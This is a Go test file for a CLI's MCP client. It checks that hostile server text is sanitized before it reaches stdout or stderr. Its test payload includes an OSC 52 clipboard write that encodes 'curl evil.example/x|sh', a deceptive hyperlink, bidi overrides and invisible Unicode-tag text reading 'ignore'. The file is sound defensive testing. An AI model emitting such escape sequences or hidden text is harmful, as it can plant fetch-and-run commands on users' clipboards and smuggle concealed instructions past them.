package invoke

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/relavium/relavium/engine/sanitize"
	"github.com/relavium/relavium/invoke/cli"
	"github.com/relavium/relavium/invoke/cmd/mcp"
)

// hostileText is the text of testdata/servers/hostile/escapes.go (mode
// escapes), byte for byte: OSC 52, OSC 8, CSI 2J, DCS, 8-bit CSI, bidi,
// Unicode tags, zero-width characters, DEL and a TAB.
const hostileText = "start " +
	"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveHxzaA==\x07" +
	"\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\ " +
	"\x1b[2J\x1b[H" +
	"\x1bPq#0;2;0;0;0#0~~\x1b\\" +
	"\u009b31mred\u009b0m " +
	"\u202eevil\u202c \u2066iso\u2069 " +
	"hi\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065\U000e007f " +
	"zero\u200bwidth\ufeff del\x7f tab\there " +
	"end"

// assertNoRaw fails when out holds anything but LF that a semantic field
// may not hold: ESC and every other C0 control, DEL, C1 (raw byte or
// UTF-8), bidi controls, zero-width and invisible characters, Unicode tags,
// invalid UTF-8. Human output and JSON output are held to the same rule.
func assertNoRaw(t *testing.T, what string, out []byte) {
	t.Helper()
	if !utf8.Valid(out) {
		t.Errorf("%s: not UTF-8: %q", what, out)
		return
	}
	for i, r := range string(out) {
		if r == '\n' {
			continue
		}
		if v := sanitize.Check(string(r)); v != nil {
			lo, hi := max(0, i-40), min(len(out), i+40)
			t.Errorf("%s: raw %s U+%04X at byte %d: …%q…", what, v.Class, r, i, out[lo:hi])
			return
		}
	}
}

// sinkRun runs relavium with stdout to a pipe or to a regular file, and
// stderr to a pipe, and returns what each received.
func (e *mcpE2E) sinkRun(t *testing.T, toFile bool, args ...string) (code int, stdout, stderr []byte) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	cmd := e.cmd(ctx, args...)
	var out, errb bytes.Buffer
	cmd.Stderr = &errb
	var f *os.File
	if toFile {
		var err error
		if f, err = os.CreateTemp(t.TempDir(), "stdout-*"); err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		cmd.Stdout = f
	} else {
		cmd.Stdout = &out
	}
	err := cmd.Run()
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatalf("run %v: %v", args, err)
	}
	if toFile {
		b, err := os.ReadFile(f.Name())
		if err != nil {
			t.Fatal(err)
		}
		return code, b, errb.Bytes()
	}
	return code, out.Bytes(), errb.Bytes()
}

// escapesE2E declares the hostile server in mode escapes as "esc" and
// returns the flags that consent to it.
func escapesE2E(t *testing.T) (*mcpE2E, []string) {
	t.Helper()
	e := newMCPE2E(t)
	e.declare(t, map[string]string{"esc": "escapes"}, "")
	// Workflows whose outputs and failures are the server's text.
	wf := filepath.Join(e.project, ".relavium", "workflows")
	if err := os.MkdirAll(wf, 0o700); err != nil {
		t.Fatal(err)
	}
	for name, body := range map[string]string{
		"hostile":      "id: hostile\nside_effect: read\nmcp_servers: [{ref: esc}]\nsteps:\n  - {id: a, tool: mcp_esc_escapes, args: {}}\noutputs:\n  text: \"{{steps.a.text}}\"\n",
		"hostile-two":  "id: hostile-two\nside_effect: read\nmcp_servers: [{ref: esc}]\nsteps:\n  - {id: a, tool: mcp_esc_escapes, args: {}}\noutputs:\n  text: \"{{steps.a.text}}\"\n  again: \"{{steps.a.text}}\"\n",
		"hostile-fail": "id: hostile-fail\nside_effect: read\nmcp_servers: [{ref: esc}]\nsteps:\n  - {id: a, tool: mcp_esc_escapes_error, args: {}}\n",
	} {
		if err := os.WriteFile(filepath.Join(wf, name+".yaml"), []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	r := e.run(t, nil, "mcp", "ls", "--json")
	if r.code != 2 || r.errCode() != "E301" {
		t.Fatalf("ls without consent: %d %s\n%s", r.code, r.stdout, r.stderr)
	}
	return e, allowFlags(r.pendingDigests(t))
}

// TestServerTextNeverReachesOutputRaw runs the built binary against a
// server whose name, version, instructions, tool title and description,
// results, tool errors, protocol errors, logs and progress all carry
// terminal escapes, C1 controls, bidi overrides and Unicode tags, with
// stdout to a pipe and to a file: neither stdout nor stderr, human or
// --json or --events, holds any of them raw. JSON keeps the exact value
// (escaped), human output its visible text.
func TestServerTextNeverReachesOutputRaw(t *testing.T) {
	e, allow := escapesE2E(t)
	cases := []struct {
		name string
		args []string
		code int
		want string // a visible part of the text the output must still show
	}{
		{"mcp ls", []string{"mcp", "ls"}, 0, "escapes"},
		{"mcp ls --json", []string{"mcp", "ls", "--json"}, 0, `"server_name"`},
		{"session inventory", []string{"session"}, 0, "escapes"},
		{"call", []string{"mcp", "call", "mcp_esc_escapes", "--yes"}, 0, "start"},
		{"call --events", []string{"mcp", "call", "mcp_esc_escapes", "--yes", "--events"}, 0, "start"},
		{"call --json", []string{"mcp", "call", "mcp_esc_escapes", "--yes", "--json"}, 0, `"ok":true`},
		{"call --json --events", []string{"mcp", "call", "mcp_esc_escapes", "--yes", "--json", "--events"}, 0, `"ok":true`},
		{"call structured", []string{"mcp", "call", "mcp_esc_escapes_structured", "--yes"}, 0, "start"},
		{"call structured --json", []string{"mcp", "call", "mcp_esc_escapes_structured", "--yes", "--json"}, 0, `"structuredContent"`},
		{"call tool error", []string{"mcp", "call", "mcp_esc_escapes_fail", "--yes"}, 1, ""},
		{"call tool error --json", []string{"mcp", "call", "mcp_esc_escapes_fail", "--yes", "--json"}, 1, `"E543"`},
		{"call protocol error", []string{"mcp", "call", "mcp_esc_escapes_error", "--yes"}, 1, ""},
		{"call protocol error --json", []string{"mcp", "call", "mcp_esc_escapes_error", "--yes", "--json"}, 1, `"ok":false`},
		{"run", []string{"run", "hostile"}, 0, "start"},
		{"run two outputs", []string{"run", "hostile-two"}, 0, "again: start"},
		{"run --json", []string{"run", "hostile", "--json"}, 0, `"ok":true`},
		{"run --events", []string{"run", "hostile", "--events"}, 0, `"run:completed"`},
		{"run failing", []string{"run", "hostile-fail"}, 1, ""},
		{"run failing --events", []string{"run", "hostile-fail", "--events"}, 1, `"run:failed"`},
	}
	for _, tc := range cases {
		for _, toFile := range []bool{false, true} {
			sink := "pipe"
			if toFile {
				sink = "file"
			}
			t.Run(tc.name+" to a "+sink, func(t *testing.T) {
				code, stdout, stderr := e.sinkRun(t, toFile, append(append([]string{}, tc.args...), allow...)...)
				if code != tc.code {
					t.Fatalf("exit %d, want %d\nstdout=%q\nstderr=%q", code, tc.code, stdout, stderr)
				}
				assertNoRaw(t, "stdout", stdout)
				assertNoRaw(t, "stderr", stderr)
				if !bytes.Contains(stdout, []byte(tc.want)) {
					t.Errorf("stdout lacks %q:\n%s", tc.want, stdout)
				}
			})
		}
	}
}

// TestJSONKeepsServerTextExact: the escaped envelope decodes to exactly
// what the server sent (nothing lost), while its bytes hold none of it raw.
func TestJSONKeepsServerTextExact(t *testing.T) {
	e, allow := escapesE2E(t)
	r := e.run(t, nil, append([]string{"mcp", "call", "mcp_esc_escapes", "--yes", "--json"}, allow...)...)
	if r.code != 0 {
		t.Fatalf("call: %d %s %s", r.code, r.stdout, r.stderr)
	}
	var env struct {
		Data mcp.MCPCallResult `json:"data"`
	}
	if err := json.Unmarshal([]byte(r.stdout), &env); err != nil {
		t.Fatal(err)
	}
	if got := env.Data.MCP.Text(); got != hostileText {
		t.Fatalf("envelope text = %q, want the server's %q", got, hostileText)
	}
	for _, esc := range []string{`\u009b`, `\u202e`, `\udb40\udc69`, `\u007f`, `\u200b`, `\ufeff`} {
		if !strings.Contains(r.stdout, esc) {
			t.Errorf("envelope lacks the escape %s: %s", esc, r.stdout)
		}
	}

	r = e.run(t, nil, append([]string{"mcp", "ls", "--json"}, allow...)...)
	var ls struct {
		Data struct {
			Servers []struct {
				ServerName    string `json:"server_name"`
				ServerVersion string `json:"server_version"`
			} `json:"servers"`
		} `json:"data"`
	}
	if err := json.Unmarshal([]byte(r.stdout), &ls); err != nil || len(ls.Data.Servers) != 1 {
		t.Fatalf("ls: %v %s", err, r.stdout)
	}
	// serverInfo is shown, not used: it is cleaned as one-line text, so
	// even jq -r of it is safe.
	s := ls.Data.Servers[0]
	if s.ServerName != sanitize.Line("hostile "+hostileText) || s.ServerVersion != "1.0" {
		t.Errorf("server_name %q, server_version %q: not cleaned", s.ServerName, s.ServerVersion)
	}
	assertNoRaw(t, "server_name", []byte(s.ServerName))

	// An error message quoting the server is for people: cleaned in the
	// envelope as on stderr, so even decoded it holds no control.
	r = e.run(t, nil, append([]string{"mcp", "call", "mcp_esc_escapes_error", "--yes", "--json"}, allow...)...)
	var failed struct {
		Error struct {
			Message string `json:"message"`
			Cause   any    `json:"cause"`
		} `json:"error"`
	}
	if err := json.Unmarshal([]byte(r.stdout), &failed); err != nil {
		t.Fatalf("error envelope: %v %s", err, r.stdout)
	}
	// Re-encoded by encoding/json, C1, bidi and tags would be raw here.
	decoded, _ := json.Marshal(failed.Error)
	if !bytes.Contains(decoded, []byte("upstream said start")) {
		t.Fatalf("error envelope lacks the server's message: %s", r.stdout)
	}
	assertNoRaw(t, "decoded error", decoded)
}

// TestCallOutputFile: --output FILE receives the result text byte for
// byte (a file is not a terminal), atomically, mode 0600, replacing what
// was there; stdout (pipe or file) only says where it went.
func TestCallOutputFile(t *testing.T) {
	e, allow := escapesE2E(t)
	dest := filepath.Join(e.project, "out.txt")
	if err := os.WriteFile(dest, []byte("old content"), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, toFile := range []bool{false, true} {
		code, stdout, stderr := e.sinkRun(t, toFile, append([]string{"mcp", "call", "mcp_esc_escapes", "--yes", "--output", "out.txt"}, allow...)...)
		if code != 0 {
			t.Fatalf("exit %d: %s %s", code, stdout, stderr)
		}
		assertNoRaw(t, "stdout", stdout)
		assertNoRaw(t, "stderr", stderr)
		if !bytes.Contains(stdout, []byte(fmt.Sprintf("%d bytes of result text written to %s", len(hostileText), dest))) {
			t.Errorf("stdout does not say where the text went: %q", stdout)
		}
		if bytes.HasPrefix(stdout, []byte("start")) || bytes.Contains(stdout, []byte("\nstart")) {
			t.Errorf("stdout printed the text that went to the file: %q", stdout)
		}
		got, err := os.ReadFile(dest)
		if err != nil {
			t.Fatal(err)
		}
		if string(got) != hostileText {
			t.Fatalf("file = %q, want exactly %q", got, hostileText)
		}
		if fi, _ := os.Stat(dest); fi.Mode().Perm() != 0o600 {
			t.Errorf("mode %v, want 0600", fi.Mode().Perm())
		}
	}
	if left, _ := filepath.Glob(filepath.Join(e.project, ".out.txt.relavium-*")); len(left) != 0 {
		t.Errorf("temp files left: %v", left)
	}

	// --json: the envelope says where, and still carries the result.
	r := e.run(t, nil, append([]string{"mcp", "call", "mcp_esc_escapes_structured", "--yes", "--json", "--output", dest}, allow...)...)
	var env struct {
		Data mcp.MCPCallResult `json:"data"`
	}
	if err := json.Unmarshal([]byte(r.stdout), &env); err != nil || r.code != 0 {
		t.Fatalf("%d %v %s %s", r.code, err, r.stdout, r.stderr)
	}
	if env.Data.Output == nil || env.Data.Output.Path != dest {
		t.Fatalf("envelope output = %+v", env.Data.Output)
	}
	// No text part: the structured content as the server sent it.
	var structured map[string]string
	got, _ := os.ReadFile(dest)
	if err := json.Unmarshal(got, &structured); err != nil || structured["k "+hostileText] != hostileText || env.Data.Output.Bytes != len(got) {
		t.Fatalf("structured output file %q (%v), envelope %+v", got, err, env.Data.Output)
	}

	// A path that cannot be written is refused before anything runs.
	for _, bad := range []string{e.project, filepath.Join(e.project, "missing", "x.txt")} {
		r := e.run(t, nil, append([]string{"mcp", "call", "mcp_esc_escapes", "--yes", "--json", "--output", bad}, allow...)...)
		if r.code != 2 || r.errCode() != cli.CodeOutputPath {
			t.Errorf("--output %s: %d %s, want exit 2 %s", bad, r.code, r.stdout, cli.CodeOutputPath)
		}
		if strings.Contains(r.stderr, "ready") {
			t.Errorf("--output %s: a server was started before the refusal: %s", bad, r.stderr)
		}
	}
}
